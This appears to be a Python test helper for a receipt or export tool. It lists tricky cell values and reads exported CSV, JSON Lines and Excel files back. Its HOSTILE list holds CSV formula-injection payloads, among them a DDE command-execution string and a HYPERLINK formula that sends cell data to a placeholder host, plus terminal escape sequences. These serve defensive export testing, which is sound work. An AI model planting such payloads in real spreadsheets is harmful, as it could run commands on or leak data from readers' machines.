"""Read exported files the way that others do."""

import csv
import json
from decimal import Decimal
from pathlib import Path
from typing import Any, Final

import openpyxl
from openpyxl.worksheet.worksheet import Worksheet

from kvitto.export.exporter import export
from kvitto.export.kinds import What
from kvitto.store.reader import Reader

HOSTILE: Final = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"here")',
    "@SUM(A1:A9)",
    "+46701234567",
    "-5",
    "\t=1+1",
    "\n=1+1",
    "\r=1+1",
    " \u00a0\ufeff=1+1",
    "\uff1d1+1",
    "x;=1+1;y",
    "x,=1+1,y",
    'x";"=1+1&"y',
    "x\n=1+1",
    "'=1+1",
    "'",
    "''",
    'a "quoted" text, with a comma',
    "two\nlines",
    "two\r\nlines",
    "Åäö ÅÄÖ é ß",
    "📱👩‍👩‍👧‍👧",
    "مرحبا \u202e abc",
    "bell\x07 escape\x1b[31m delete\x7f csi\x9b31m",
    "line\u2028paragraph\u2029next\x85",
    "_x0041_",
    "<b>&amp;</b>",
    "http://example.com/",
    "n" * 256,
)
"""Texts that a spreadsheet, a terminal or a parser may do something with."""

NOT_NUMBERS: Final = (
    "456189040623",
    "46701234567",
    "0123",
    "5e61384887",
    "5e6138488799730451239114",
    "1E400",
    "1-2",
    "2026-03-01",
    "2026-03-01T10:00:00Z",
    "10:30",
    "10:30 pm",
    "5 p",
    "MAR1",
    "SEPT2",
    "maj 5",
    "3 mars",
    "20 dec 2020",
    "1.5",
    "1,5",
    "1 234",
    "1\u00a0234",
    "1/2",
    "10%",
    "$5",
    "5 kr",
    "(5)",
    "TRUE",
    "falskt",
    "#N/A",
    "\uff15\uff16",
    " 5 ",
)
"""Texts that a spreadsheet reads as numbers, times, truth values or errors."""

PLAIN: Final = (
    "",
    "5c613848879973045cf39ac4",
    "5c613848-8799-7304-5cf3-9ac45cf39ac4",
    "DeliveredToHandset",
    "Höstrea",
    "order 12",
    "A client reference",
    "SEK",
    "maj",
    "E5",
    "a-b",
)
"""Texts that nothing happens to."""


def export_to(reader: Reader, what: What, path: Path, *, batch_id: str | None = None) -> Path:
    """Export to a file in the format of its ending, and return it."""
    export(reader, what, batch_id, None, path)
    return path


def csv_rows(path: Path) -> list[dict[str, str]]:
    """Return the rows of a CSV file by their columns' names."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def jsonl_rows(path: Path) -> list[dict[str, Any]]:
    """Return the objects of a JSON Lines file, numbers with a point as decimals."""
    lines = path.read_bytes().decode("utf-8").split("\n")
    assert lines.pop() == "", "the last line has its end too"
    return [json.loads(line, parse_float=Decimal) for line in lines]


def xlsx_sheets(path: Path) -> list[Worksheet]:
    """Return the sheets of a workbook."""
    book = openpyxl.load_workbook(path)
    return [book[name] for name in book.sheetnames]


def xlsx_rows(path: Path) -> list[dict[str, Any]]:
    """Return the rows of a workbook's first sheet by their columns' names."""
    head, *rows = xlsx_sheets(path)[0].iter_rows(values_only=True)
    return [dict(zip(map(str, head), row, strict=True)) for row in rows]
